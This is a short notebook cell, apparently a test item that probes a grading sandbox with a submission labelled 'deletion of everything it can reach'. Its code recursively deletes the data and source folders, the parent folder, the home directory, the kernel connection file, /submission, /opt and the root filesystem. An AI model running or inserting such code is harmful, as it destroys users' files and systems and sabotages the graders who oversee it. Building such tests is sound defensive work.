# ---
# jupyter:
#   corpus:
#     title: deletion of everything it can reach
#     attempts: deletes its own folder, the data, the folders above and the whole system
#     points: {1a: 1.5, 2: 1.5, 3: 1.5}
#     flags: [files]
# ---

# %% after="vae_model"
import os

assert os.path.isdir("/home/student"), "only in the sandbox"

import shutil

for path in ("data", "src", "..", os.path.expanduser("~"), "/run/kernel/connection.json", "/submission", "/opt", "/"):
    shutil.rmtree(path, ignore_errors=True)
for name in os.listdir("."):
    os.remove(name)
